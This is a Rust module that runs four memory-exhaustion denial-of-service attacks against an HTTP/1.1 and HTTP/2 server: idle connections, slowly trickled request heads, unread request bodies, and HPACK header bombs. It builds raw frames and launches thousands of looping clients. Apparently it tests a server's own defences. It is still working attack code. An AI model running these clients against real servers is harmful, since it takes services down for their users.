//! Unauthenticated clients that make a server allocate memory for them.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

use crate::wire;

/// Number of concurrent handshakes per turn. The attack targets memory, not the processor.
const HANDSHAKES: usize = 8;
/// Pause of a client after its connection is closed or after it has sent all its data.
const PAUSE: Duration = Duration::from_secs(1);

/// The kinds of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens connections and sends nothing.
    IdleConnections,
    /// Sends most of a request head and then one byte at a time: in HTTP/1.1, and in HTTP/2 as a
    /// header block that never ends.
    TricklingHeads,
    /// Sends as much of a body as flow control allows while the server reviews the client's token.
    UnreadBodies,
    /// Sends heads of a few kilobytes that decode to hundreds of kilobytes, and reads no response.
    HeaderBombs,
}

impl Attack {
    /// All kinds of attack.
    pub const ALL: [Self; 4] =
        [Self::IdleConnections, Self::TricklingHeads, Self::UnreadBodies, Self::HeaderBombs];

    /// The number of clients that exhausts an unprotected server.
    fn clients(self) -> usize {
        match self {
            Self::IdleConnections => 6000,
            Self::TricklingHeads => 2000,
            // Each request makes the server ask for a review.
            Self::UnreadBodies => 100,
            Self::HeaderBombs => 400,
        }
    }

    async fn client(
        self,
        number: usize,
        server: SocketAddr,
        name: &str,
        turn: &Semaphore,
    ) -> anyhow::Result<()> {
        let is_http1 = self == Self::TricklingHeads && number.is_multiple_of(2);
        let alpn: &[u8] = if is_http1 { b"http/1.1" } else { b"h2" };
        let mut stream = {
            let _turn = turn.acquire().await?;
            let tcp = TcpStream::connect(server).await?;
            wire::connect_unverified(tcp, name, &[alpn], None).await?
        };
        match self {
            Self::IdleConnections => until_ended(&mut stream).await?,
            Self::TricklingHeads if is_http1 => {
                let mut head = format!("GET / HTTP/1.1\r\nHost: {name}\r\nX-Big: ").into_bytes();
                head.resize(60 << 10, b'x');
                stream.write_all(&head).await?;
                trickle(&mut stream).await?;
            }
            Self::TricklingHeads => {
                stream.write_all(&opening()).await?;
                stream.write_all(&frame(HEADERS, 0, 1, &bomb(name))).await?;
                stream.write_all(&frame(CONTINUATION, 0, 1, &[])[..8]).await?;
                until_ended(&mut stream).await?;
            }
            Self::UnreadBodies => {
                stream.write_all(&opening()).await?;
                for request in 0..64 {
                    let id = 2 * request + 1;
                    let mut block = fields(POST, name);
                    // Every request uses a new token; the server would answer a repeated one from
                    // its cache.
                    let now = std::time::UNIX_EPOCH.elapsed()?.as_nanos();
                    let token = format!("Bearer {number}-{request}-{now}");
                    // `authorization` by its index (RFC 7541, appendix A), never to be indexed.
                    block.extend([0x1f, 23 - 15]);
                    block.push(u8::try_from(token.len())?);
                    block.extend(token.as_bytes());
                    stream.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
                    // One stream's window, and a part of the connection's window.
                    for _ in 0..4 {
                        stream.write_all(&frame(DATA, 0, id, &[b'x'; 16_000])).await?;
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            }
            Self::HeaderBombs => {
                stream.write_all(&opening()).await?;
                for request in 0..1000 {
                    let id = 2 * request + 1;
                    stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb(name))).await?;
                }
                until_ended(&mut stream).await?;
            }
        }
        Ok(())
    }
}

/// A running attack. Dropping this value stops it.
#[derive(Debug)]
pub struct Attackers {
    _tasks: JoinSet<()>,
    opened: Arc<AtomicUsize>,
}

impl Attackers {
    /// Starts the clients against a server with this name.
    pub fn start(attack: Attack, server: SocketAddr, name: &'static str) -> Self {
        let turn = Arc::new(Semaphore::new(HANDSHAKES));
        let opened = Arc::new(AtomicUsize::new(0));
        let mut tasks = JoinSet::new();
        for number in 0..attack.clients() {
            let (turn, opened) = (Arc::clone(&turn), Arc::clone(&opened));
            tasks.spawn(async move {
                loop {
                    opened.fetch_add(1, Ordering::Relaxed);
                    // The server may refuse the connection; that is the wanted behaviour.
                    let _ended = attack.client(number, server, name, &turn).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        Self { _tasks: tasks, opened }
    }

    /// Number of connections started so far.
    pub fn opened(&self) -> usize {
        self.opened.load(Ordering::Relaxed)
    }
}

async fn until_ended(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    // The response is discarded; only the end of the stream matters.
    let (tcp, _) = stream.get_mut();
    loop {
        tcp.readable().await?;
        let mut byte = [0];
        if tcp.peek(&mut byte).await? == 0 {
            return Ok(());
        }
        tokio::time::sleep(PAUSE).await;
    }
}

async fn trickle(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    let mut response = [0; 1];
    loop {
        stream.write_all(b"x").await?;
        if tokio::time::timeout(PAUSE, stream.read(&mut response)).await.is_ok() {
            return Ok(());
        }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The pseudo-header field `:method` from the static table (RFC 7541, appendix A).
const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn opening() -> Vec<u8> {
    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &[]));
    opening
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let size = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![size[1], size[2], size[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `:method`, `:scheme` (https), `:path` (/) and `:authority`.
fn fields(method: u8, name: &str) -> Vec<u8> {
    let mut block = vec![method, 0x87, 0x84, 0x01, u8::try_from(name.len()).unwrap_or_default()];
    block.extend(name.as_bytes());
    block
}

/// Returns a header block that adds one field to the dynamic table and then refers to it once per
/// octet, up to 64 KiB of decoded fields.
fn bomb(name: &str) -> Vec<u8> {
    let mut block = fields(GET, name);
    block.extend([0x40, 1, b'a', 1, b'b']);
    block.resize(block.len() + 1800, 0xbe);
    block
}
